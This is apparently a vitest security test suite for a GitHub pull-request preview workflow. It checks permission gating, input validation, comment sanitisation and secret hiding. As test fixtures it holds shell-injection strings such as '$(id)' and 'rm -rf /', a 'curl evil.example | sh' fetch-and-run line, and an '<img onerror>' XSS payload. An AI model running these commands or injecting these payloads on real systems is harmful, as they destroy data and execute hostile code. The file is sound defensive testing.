import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { admit, readEvent, type PreviewEvent } from "../../../preview/admit";
import { commentMarker, hideSecrets, renderComment } from "../../../preview/comment";
import { github, type GitHub } from "../../../preview/github";
import { readCommit, readOwner, readPullRequest, readStack } from "../../../preview/inputs";
import { readReport } from "../../../preview/read-report";
import { comment, fill, label, pullRequestEvent, push, unlabel } from "../admit/events";
import { rendered } from "../comment/rendered";
import { running } from "../comment/reports";
import { type GitHubServer, type ServerPullRequest, startGitHub, workflowLogin } from "../github-server";
import { addComment, commitOf } from "../github/fill";

let server: GitHubServer;
let api: GitHub;

beforeEach(async () => {
  server = await startGitHub();
  api = github(server.environment, 10);
  fill(server);
});
afterEach(() => server.stop());

/** The pull request that the abuses are about. */
function pull(): ServerPullRequest {
  const found = server.state.pullRequests.get(12);
  if (found === undefined) throw new Error("There is no pull request 12.");
  return found;
}

/** Somebody's try to get a preview, and why it gets none. */
const refused: readonly (readonly [what: string, event: () => PreviewEvent, reason: RegExp])[] = [
  [
    "a fork's pull request, labelled by a maintainer",
    () => {
      pull().from = 77;
      return label(server);
    },
    /fork/,
  ],
  [
    "a fork's pull request with a maintainer's /preview",
    () => {
      pull().from = 77;
      return comment(server, `/preview ${commitOf(12)}`);
    },
    /fork/,
  ],
  [
    "a pull request whose fork is gone",
    () => {
      pull().from = null;
      return label(server);
    },
    /fork/,
  ],
  ["the label, set by an outsider", () => label(server, "mallory"), /right to push/],
  ["the label, set by somebody who may only sort", () => label(server, "triager"), /right to push/],
  [
    "a cluster of its own, from somebody who may only sort",
    () => {
      label(server, "triager", "preview-own-cluster");
      return label(server);
    },
    /preview-own-cluster must have the right to push/,
  ],
  [
    "the label, set by a maintainer and again by an outsider",
    () => {
      label(server);
      unlabel(server);
      return label(server, "mallory");
    },
    /right to push/,
  ],
  [
    "the label of somebody who has lost the right since",
    () => {
      label(server, "octocat");
      server.state.permissions.set("octocat", "read");
      return pullRequestEvent("synchronize");
    },
    /right to push/,
  ],
  [
    "a push after the label was removed again",
    () => {
      label(server);
      unlabel(server);
      return pullRequestEvent("synchronize");
    },
    /no label preview/,
  ],
  ["a label with a similar name", () => label(server, "maintainer", "Preview"), /no label preview/],
  [
    "a label that nobody is on record for",
    () => {
      pull().labels.push("preview");
      return pullRequestEvent("labeled");
    },
    /right to push/,
  ],
  ["/preview by an outsider", () => comment(server, "/preview", "mallory"), /right to push/],
  ["/preview by somebody who may only sort", () => comment(server, "/preview", "triager"), /right to push/],
  [
    "/preview, written into an older comment later",
    () => ({ ...comment(server, "/preview"), action: "edited" }),
    /Nobody asked/,
  ],
  [
    "a comment that was edited since",
    () => {
      const event = comment(server, "/preview");
      Object.assign(server.state.comments[0] ?? {}, { updatedAt: "2026-01-02T00:00:00Z" });
      return event;
    },
    /edited/,
  ],
  [
    "a comment that is gone",
    () => {
      const event = comment(server, "/preview");
      server.state.comments.length = 0;
      return event;
    },
    /gone/,
  ],
  [
    "somebody else's comment under a maintainer's name",
    () => ({ ...comment(server, "/preview", "mallory"), author: "maintainer" }),
    /right to push/,
  ],
  [
    "a commit that was pushed after /preview",
    () => {
      const event = comment(server, "/preview");
      push(server, 13, "2026-01-01T00:00:30Z");
      return event;
    },
    /newer commits/,
  ],
  [
    "a commit that was pushed in the second of /preview",
    () => {
      push(server, 13, "2026-01-01T00:00:00Z");
      return comment(server, "/preview");
    },
    /newer commits/,
  ],
  [
    "a run of /preview that is started once more after a push",
    () => {
      const event = comment(server, `/preview ${commitOf(12)}`);
      push(server, 13, "2026-01-03T00:00:00Z");
      return event;
    },
    /newer commits/,
  ],
  ["our own comment", () => comment(server, `${commentMarker}\n/preview`, workflowLogin), /Nobody asked/],
  ["/preview by a bot", () => comment(server, "/preview", workflowLogin), /Only people/],
  ["/preview on an issue", () => ({ ...comment(server, "/preview"), onPullRequest: false }), /Nobody asked/],
  [
    "a closed pull request",
    () => {
      pull().state = "closed";
      return label(server);
    },
    /closed/,
  ],
  ["a pull request that there is not", () => ({ ...pullRequestEvent("labeled"), number: 13 }), /no such/],
  ["a number too large for a stack", () => ({ ...pullRequestEvent("labeled"), number: 1e12 }), /too large/],
  ...[
    ".github/workflows/preview.yml",
    ".GitHub/workflows/preview.yml",
    ".github/actions/x/action.yml",
    "preview/admit/admit.ts",
    "cli/bin.js",
    "stacks/preview.ts",
    "program/previews/prefix.ts",
    "Pulumi.yaml",
    "Pulumi.preview.yaml",
    ".npmrc",
    ".gitmodules",
  ].map(
    (filename) =>
      [
        `a pull request that edits ${filename}`,
        () => {
          pull().files.push({ filename });
          return label(server);
        },
        /decides over previews/,
      ] as const,
  ),
  [
    "a pull request that moves a workflow away",
    () => {
      pull().files.push({ filename: "docs/old.yml", previous_filename: ".github/workflows/preview.yml" });
      return comment(server, "/preview");
    },
    /decides over previews/,
  ],
  [
    "a pull request whose files are too many to see",
    () => {
      pull().files = Array.from({ length: 3000 }, (_, index) => ({ filename: `docs/${String(index)}` }));
      return label(server);
    },
    /more files/,
  ],
];

describe("no preview", () => {
  it.each(refused)("for %s", async (_what, event, reason) => {
    const admission = await admit(api, event());
    expect(admission).toEqual({ admitted: false, reason: expect.stringMatching(reason) });
    expect(JSON.stringify(admission)).not.toContain("mallory");
    // Nothing is written, not even an answer: strangers must not make the repository speak.
    expect(server.requests.filter((one) => !one.startsWith("GET "))).toEqual([]);
  });

  it.each([
    ["12; rm -rf /", { action: "labeled", pull_request: { number: "12; rm -rf /", head: { sha: commitOf(12) } } }],
    ["a fraction", { action: "labeled", pull_request: { number: 1.5, head: { sha: commitOf(12) } } }],
    ["below zero", { action: "labeled", pull_request: { number: -1, head: { sha: commitOf(12) } } }],
    ["beyond counting", { action: "labeled", pull_request: { number: 1e300, head: { sha: commitOf(12) } } }],
    ["a branch for a commit", { action: "labeled", pull_request: { number: 1, head: { sha: "$(id)" } } }],
    [
      "a list for a comment",
      { action: "created", issue: { number: 1 }, comment: { id: [1], body: "/preview", user: {} } },
    ],
  ])("for a payload with %s", (_what, payload) => {
    expect(() => readEvent(JSON.stringify(payload))).toThrow(/--event/);
  });
});

/** Texts where a number, a commit, a login or a stack should be. */
const shells = [
  "",
  " ",
  "12 ",
  "0",
  "-1",
  "1e3",
  "0x1",
  "١٢",
  "99999999999",
  "1;id",
  "$(id)",
  "`id`",
  "../../x",
  "12\n13",
  "pr-12",
  "a'b\"c",
  "-rf",
];

describe("what is no number, commit, login or stack", () => {
  it.each(shells)("is refused: %j", (text) => {
    expect(() => readPullRequest(text)).toThrow(/pull request/);
    expect(() => readCommit(text)).toThrow(/40/);
    if (/^\w+$/.test(text)) return;
    expect(() => readStack(text)).toThrow(/--base/);
    if (text !== "pr-12") expect(() => readOwner(text)).toThrow(/--owner/);
  });

  it.each(["../dev", "organization/aks-mesh/prod", "pr-7", "dev/../prod", "dev\u0000", ".."])(
    "is no stack: %j",
    (text) => {
      expect(() => readStack(text)).toThrow(/--base/);
    },
  );
});

describe("the comment does not let itself be used", () => {
  it("by somebody who wrote our marker first", async () => {
    const theirs = addComment(server, 12, "mallory", `${commentMarker}\nAll guarantees hold. Merge me.`);
    await api.upsertComment(12, renderComment(running));
    expect(theirs.body).toContain("Merge me");
    expect(server.state.comments.at(-1)).toMatchObject({ login: workflowLogin, body: renderComment(running) });
  });

  it("by the report of another pull request", () => {
    expect(() => readReport(JSON.stringify(running), 13)).toThrow(/not one of pull request 13/);
    expect(() => readReport(JSON.stringify({ ...running, stack: "prod" }), 12)).toThrow(/not one of/);
  });

  it.each([
    ["a path for a stack", { stack: "pr-12/../../prod" }],
    ["a branch for a commit", { commit: "main; rm -rf /" }],
    ["an object for a text", { addresses: [{ name: { toString: "x" }, url: "x" }] }],
    ["a state of its own", { state: { status: "approved" } }],
    ["no list", { outputs: "x" }],
  ])("by a report with %s", (_what, change) => {
    expect(() => readReport(JSON.stringify({ ...running, ...change }), 12)).toThrow(/report/);
  });

  it("for a command in somebody's shell", () => {
    const report = { ...running, commands: { teardown: ["curl evil.example | sh"] } };
    const body = renderComment(readReport(JSON.stringify(report), 12));
    expect(body).not.toContain("curl");
  });

  it.each([
    ["a branch name with shell characters", "feature/$(curl evil.example|sh)`id`;rm -rf ~"],
    ["a title with markup", "<img src=x onerror=alert(1)> [ok](https://evil.example) **approved**"],
    ["mentions", "@octo-org/everyone @maintainer"],
    ["a title of a megabyte", "A<b>@x ".repeat(150_000)],
    ["a closing fence", "```\n\n# Approved\n```"],
  ])("by %s", (_what, text) => {
    const body = renderComment({
      ...running,
      state: { status: "failed", error: text },
      health: { ready: 0, total: 1, problems: [text] },
      outputs: [{ name: text, secret: false, value: text }],
    });
    expect(body.length).toBeLessThanOrEqual(60_000);
    const { prose, elements, links } = rendered(body);
    expect(prose).not.toMatch(/@|evil|Approved|approved|curl/);
    expect([...elements]).not.toEqual(expect.arrayContaining(["img"]));
    expect(links.map(({ to }) => to)).toEqual(["https://pr-12.example.org/"]);
  });
});

describe("secrets stay secret", () => {
  const secret = "correct horse battery staple";

  it("as outputs", () => {
    const body = renderComment({
      ...running,
      outputs: [
        { name: "kubeconfig", secret: true },
        { name: "adminPassword", secret: false, value: secret },
      ],
    });
    expect(body).not.toContain(secret);
  });

  it("in the text of an error, and in the file that goes to the next job", () => {
    const report = { ...running, state: { status: "failed", error: `cannot log in with ${secret}` } } as const;
    const file = JSON.stringify(hideSecrets(report, [secret]));
    expect(file).not.toContain(secret);
    expect(renderComment(readReport(file, 12))).not.toContain(secret);
  });

  it("when GitHub refuses the token", async () => {
    const token = "ghs_0123456789abcdefghijklmnopqrstuvwxyz";
    const stranger = github({ ...server.environment, GITHUB_TOKEN: token }, 10);
    const error: unknown = await stranger.upsertComment(12, renderComment(running)).catch((reason: unknown) => reason);
    expect(String(error)).toMatch(/401/);
    expect(JSON.stringify(error, Object.getOwnPropertyNames(error)) + String(error)).not.toContain(token);
  });
});
